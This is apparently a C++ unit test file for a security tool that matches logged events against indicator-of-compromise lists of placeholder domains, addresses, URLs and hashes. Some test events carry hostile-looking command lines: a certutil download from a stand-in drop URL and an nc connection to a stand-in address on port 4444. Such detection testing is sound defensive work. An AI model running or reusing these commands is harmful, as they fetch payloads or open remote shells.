#include "detect/indicators.h"

#include <gtest/gtest.h>

#include "detect/test_events.h"

namespace tocsin::detect {
namespace {

constexpr std::string_view kList = R"(# a list
evil.example          # a domain
hxxps://bad[.]test/drop/a.php
cdn.test/kit/
192.0.2.66
2001:DB8::66
198.51.100.0/25
d41d8cd98f00b204e9800998ecf8427e
DA39A3EE5E6B4B0D3255BFEF95601890AFD80709
e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855
com
not an indicator
1.2.3.400
evil.example
)";

/// "type value test" of every match for one event.
std::vector<std::string> found(std::string_view event) {
  Hunter hunter(test_schema());
  hunter.add_indicators(kList, "list.txt");
  std::vector<std::string> out;
  for (const record::Match& match : hunt_text(hunter, event)) {
    EXPECT_EQ(match.engine, record::Engine::indicator);
    EXPECT_EQ(match.indicator->list, "list.txt");
    EXPECT_EQ(match.fields.at(0).first, match.why.at(0).field);
    for (std::size_t i = 1; i < match.fields.size(); ++i) EXPECT_EQ(match.fields[i].first, "sc-status");
    out.push_back(match.indicator->type + " " + match.indicator->value + " " + match.why.at(0).test);
  }
  return out;
}
using Found = std::vector<std::string>;

TEST(Indicators, AListIsReadLineByLine) {
  Hunter hunter(test_schema());
  hunter.add_indicators(kList, "list.txt");
  EXPECT_EQ(hunter.counts().indicators, 9u);
  ASSERT_EQ(hunter.rejected().size(), 3u);
  EXPECT_EQ(hunter.rejected()[0].rule, "com");
  EXPECT_EQ(hunter.rejected()[0].line, 11u);
  EXPECT_EQ(hunter.rejected()[2].rule, "1.2.3.400");
}

TEST(Indicators, DomainsMatchTheirSubdomains) {
  EXPECT_EQ(found(R"({"QueryName":"EVIL.example."})"), Found{"domain evil.example equals"});
  EXPECT_EQ(found(R"({"QueryName":"a.b.evil.example"})"), Found{"domain evil.example subdomain"});
  EXPECT_EQ(found(R"({"QueryName":"notevil.example"})"), Found{});
  EXPECT_EQ(found(R"({"QueryName":"evil.example.org"})"), Found{});
  EXPECT_EQ(found(R"({"Product":"evil.example"})"), Found{}) << "only fields of the right type";
}

TEST(Indicators, Addresses) {
  EXPECT_EQ(found(R"({"DestinationIp":"192.0.2.66"})"), Found{"ipv4 192.0.2.66 equals"});
  EXPECT_EQ(found(R"({"DestinationIp":"::ffff:192.0.2.66"})"), Found{"ipv4 192.0.2.66 equals"});
  EXPECT_EQ(found(R"({"DestinationIp":"2001:db8:0:0::66"})"), Found{"ipv6 2001:db8::66 equals"});
  EXPECT_EQ(found(R"({"SourceIp":"198.51.100.127"})"), Found{"cidr 198.51.100.0/25 cidr"});
  EXPECT_EQ(found(R"({"SourceIp":"198.51.100.128"})"), Found{});
  EXPECT_EQ(found(R"(192.0.2.66 - - [10/Oct/2023:13:55:36 +0000] "GET / HTTP/1.1" 200 1)"),
            Found{"ipv4 192.0.2.66 equals"});
}

TEST(Indicators, UrlsMatchWhatLiesBelow) {
  EXPECT_EQ(found(R"({"url":"http://bad.test/drop/a.php?x=1"})"), Found{"url bad.test/drop/a.php prefix"});
  EXPECT_EQ(found(R"({"url":"https://user@CDN.test:8443/kit/index.html#f"})"), Found{"url cdn.test/kit prefix"});
  EXPECT_EQ(found(R"({"url":"https://cdn.test/kits"})"), Found{});
  EXPECT_EQ(found(R"({"url":"https://www.evil.example/x"})"), Found{"domain evil.example subdomain"});
}

TEST(Indicators, HashesAndFreeText) {
  EXPECT_EQ(found(R"({"Hashes":"MD5=D41D8CD98F00B204E9800998ECF8427E,SHA1=00"})"),
            Found{"md5 d41d8cd98f00b204e9800998ecf8427e equals"});
  EXPECT_EQ(found(R"({"CommandLine":"certutil -urlcache -f \"http://bad.test/drop/a.php\" a.exe"})"),
            Found{"url bad.test/drop/a.php equals"});
  EXPECT_EQ(found(R"({"CommandLine":"nc 192.0.2.66:4444 evil.example"})"),
            (Found{"ipv4 192.0.2.66 equals", "domain evil.example equals"}));
}

}  // namespace
}  // namespace tocsin::detect
